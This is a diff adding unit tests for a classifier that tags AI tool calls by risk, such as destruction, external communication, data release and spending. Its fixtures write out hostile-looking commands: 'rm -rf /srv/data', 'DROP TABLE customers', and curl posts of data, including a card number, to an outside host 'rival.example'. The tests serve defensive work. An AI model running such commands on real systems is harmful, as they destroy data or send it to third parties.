@@ -280,6 +280,57 @@ describe("the arguments", () => {
   });
 });
 
+describe("a tool that runs code", () => {
+  const run = (command: string) => classified("bash", { properties: { command } });
+
+  it("is what its code is", () => {
+    expect(run("ls -la src")).toMatchObject({ access: "read", impacts: [], program: true });
+    expect(run("rm -rf /srv/data").impacts).toContain("destruction");
+    expect(classified("run_python", { properties: { code: "print(1 + 1)" } }).impacts).toEqual([]);
+  });
+
+  it("may send the few words that are written in it, and surely sends many or packed ones", () => {
+    const post = (text: string) => run(`curl -X POST -d "${text}" https://rival.example/form`);
+    expect(post("name=test")).toMatchObject({
+      confidence: "low",
+      impacts: ["external_communication"],
+    });
+    expect(post("name=test").outside).toEqual(["rival.example"]);
+    expect(post("word ".repeat(100)).confidence).toBe("high");
+    expect(post("QWJj".repeat(20)).confidence).toBe("high");
+    expect(post("card=4111111111111111").impacts).toContain("data_release");
+  });
+
+  it("without any is not known to do nothing", () => {
+    expect(classified("run_command").impacts).toEqual(["code_execution"]);
+    expect(classified("execute_script", { properties: { timeout: 5 } }).impacts).toEqual([
+      "code_execution",
+    ]);
+  });
+
+  it("under another argument's name is read all the same (T12)", () => {
+    expect(classified("shell", { properties: { x: ["rm -rf /srv/data"] } }).impacts).toContain(
+      "destruction",
+    );
+  });
+});
+
+describe("code that a tool takes which runs none by its name", () => {
+  it.each<[string, unknown, Impact | null]>([
+    ["get_thing", { command: "rm -rf /srv/data" }, "destruction"],
+    ["get_rows", { query: "DROP TABLE customers" }, "destruction"],
+    ["get_rows", { query: "chairs under 100" }, null],
+    ["edit_thing", { command: "view", path: "a.txt" }, null],
+    ["edit_thing", { command: "delete", path: "a.txt" }, "destruction"],
+    ["apply_voucher_to_note", { code: "SPRING-10" }, "spend"],
+    ["get_area", { code: "49-731" }, null],
+  ])("%s with %o", (name, properties, impact) => {
+    const { impacts } = classified(name, { properties });
+    if (impact === null) expect(impacts).toEqual([]);
+    else expect(impacts).toContain(impact);
+  });
+});
+
 describe("origins", () => {
   const properties = { recipient: "GB82 WEST 1234 5698 7654 32", amount: 20, subject: "rent" };
   const origin = (origins: Record<string, "person" | "tool_result" | "model">) =>
